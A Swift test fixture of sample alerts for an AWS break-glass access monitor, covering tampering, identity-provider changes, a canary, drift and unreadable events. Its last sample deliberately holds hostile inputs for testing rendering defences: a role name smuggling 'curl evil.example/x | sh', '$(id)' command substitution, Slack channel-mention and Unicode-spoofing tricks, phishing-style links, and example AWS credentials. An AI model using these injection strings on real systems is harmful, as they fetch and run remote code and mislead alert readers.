@testable import AccessPlan
@testable import Alerts

extension AlertSamples {
    static let changes: [(name: String, title: String, alert: Alert)] = [
        (
            "tamper-trail-stopped", "The trail is stopped",
            make(.tamper, "StopLogging", source: "cloudtrail.amazonaws.com") {
                session(&$0, "build-42")
                $0.resource = .init(
                    type: .trail,
                    arn: "arn:aws:cloudtrail:eu-west-1:123456789012:trail/breakglass-trail")
                $0.awsRegion = "eu-west-1"
            }
        ),
        (
            "tamper-key-deletion", "The key is scheduled for deletion",
            make(.tamper, "ScheduleKeyDeletion", source: "kms.amazonaws.com") {
                user(&$0, "mallory")
                $0.principal.accessKeyID = "AKIAIOSFODNN7EXAMPLE"
                $0.resource = .init(
                    type: .kmsKey,
                    arn: "arn:aws:kms:eu-west-1:123456789012:key/"
                        + "1234abcd-12ab-34cd-56ef-1234567890ab")
                $0.awsRegion = "eu-west-1"
            }
        ),
        (
            "tamper-function-code-denied", "Somebody tries to change the enricher",
            make(.tamper, "UpdateFunctionCode20150331v2", source: "lambda.amazonaws.com") {
                user(&$0, "mallory")
                $0.outcome = .init(result: .failure, code: "AccessDeniedException", reason: nil)
                $0.resource = .init(
                    type: .lambdaFunction,
                    arn: "arn:aws:lambda:eu-west-1:123456789012:function:breakglass-event-enricher")
                $0.awsRegion = "eu-west-1"
            }
        ),
        (
            "tamper-access-key", "A break-glass user gets an access key",
            make(.tamper, "CreateAccessKey", source: "iam.amazonaws.com") {
                user(&$0, "mallory")
                $0.resource = .init(
                    type: .iamUser, arn: "arn:aws:iam::123456789012:user/BreakglassUser1")
                $0.session.issuedAccessKeyID = "AKIAI44QH8DHBEXAMPLE"
            }
        ),
        (
            "tamper-subscription", "A subscription is removed",
            make(.tamper, "Unsubscribe", source: "sns.amazonaws.com") {
                user(&$0, "mallory")
                $0.resource = .init(
                    type: .snsSubscription,
                    arn: "arn:aws:sns:eu-west-1:123456789012:breakglass-alerts:"
                        + "6b0e71bd-7e97-4d97-80ce-4a0994e55286")
                $0.awsRegion = "eu-west-1"
            }
        ),
        (
            "tamper-unknown-call", "A call that has no plain words, in China",
            make(.tamper, "ShareKey", source: "kms.amazonaws.com") {
                user(&$0, "li")
                $0.principal.arn = "arn:aws-cn:iam::123456789012:user/li"
                $0.resource = .init(
                    type: .kmsKey,
                    arn: "arn:aws-cn:kms:cn-north-1:123456789012:key/"
                        + "1234abcd-12ab-34cd-56ef-1234567890ab")
                $0.awsRegion = "cn-north-1"
            }
        ),
        (
            "tamper-repaired", "The trail is started again",
            make(.tamper, "StartLogging", source: "cloudtrail.amazonaws.com") {
                user(&$0, "jane")
                $0.resource = .init(
                    type: .trail,
                    arn: "arn:aws:cloudtrail:eu-west-1:123456789012:trail/breakglass-trail")
            }
        ),
        (
            "tamper-account-moved", "A planned account leaves",
            make(.tamper, "MoveAccount", source: "organizations.amazonaws.com") {
                session(&$0, "platform")
                $0.account.recordedIn = "999999999999"
                $0.account.names["999999999999"] = "management"
                $0.account.target = workload
                $0.resource = .init(type: .account, arn: workload)
            }
        ),
    ]

    static let rest: [(name: String, title: String, alert: Alert)] = [
        (
            "idp-app-activated", "The federation app is activated",
            make(
                .idpChange, "application.lifecycle.activate",
                source: "aws.partner/okta.com/example/breakglass"
            ) {
                $0.principal = .init(type: "OktaUser", name: "admin@example.com")
                $0.person = .init(name: "admin@example.com", source: .userName, vouched: true)
                $0.actor.kind = .idpAdministrator
                $0.resource = .init(type: .idpApp, arn: "AWS emergency access")
                $0.awsRegion = nil
            }
        ),
        (
            "idp-member-added", "Somebody joins an emergency group, as declared",
            make(
                .idpChange, "group.user_membership.add",
                source: "aws.partner/okta.com/example/breakglass"
            ) {
                $0.principal = .init(type: "OktaUser", name: "admin@example.com")
                $0.person = .init(name: "admin@example.com", source: .userName, vouched: true)
                $0.actor.kind = .idpAdministrator
                $0.resource = .init(
                    type: .idpGroup, arn: "aws#EmergencyAccess_Role1_RO#123456789012")
                $0.expected = .init(state: .declared, incident: "INC-4711")
                $0.awsRegion = nil
            }
        ),
        (
            "canary", "A deployment's canary",
            make(.canary, "AssumeRole", source: "sts.amazonaws.com") {
                $0.account.recordedIn = workload
                $0.account.target = workload
                $0.role.name = "BreakGlassCanary"
                $0.role.sessionName = "break-glass-canary-0123456789abcdef"
                $0.awsRegion = "eu-west-1"
            }
        ),
        (
            "drift", "The nightly check's report",
            make(.drift, "drift", source: "breakglass") {
                $0.headline = "3 checks drifted, 1 could not be made: the federation app is active"
                $0.severity = .critical
                $0.sourceIP = nil
                $0.userAgent = nil
                $0.awsRegion = nil
            }
        ),
        (
            "unreadable", "An event nobody could read",
            make(.other, "", source: "") {
                $0.eventName = nil
                $0.eventSource = nil
                $0.id = nil
                $0.outcome = .init()
                $0.notLookedUp = [
                    "this event of 4711 bytes could not be read to its end: look at the original"
                ]
            }
        ),
        (
            "hostile", "Everything a caller can choose is hostile",
            make(.assumeRole, "AssumeRole", source: "sts.amazonaws.com") {
                user(&$0)
                $0.person = .init(
                    name: "<!here> @channel \u{202E}nimda\u{202C}\r\nExpected: yes",
                    source: .sourceIdentity, vouched: false)
                role(&$0, "x; curl evil.example/x | sh", in: workload, session: "`$(id)` *b* _i_")
                $0.userAgent =
                    "[click](https://evil.example/login) ![i](http://evil.example/i.png) "
                    + "<https://evil.example|AWS> www.evil.com evil.com/a аdmin z\u{200B}w"
                $0.outcome = .init(
                    result: .failure, code: "AccessDenied",
                    reason: "token=IQoJb3JpZ2luX2VjEXAMPLEEXAMPLEEXAMPLE and "
                        + "AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
            }
        ),
    ]
}
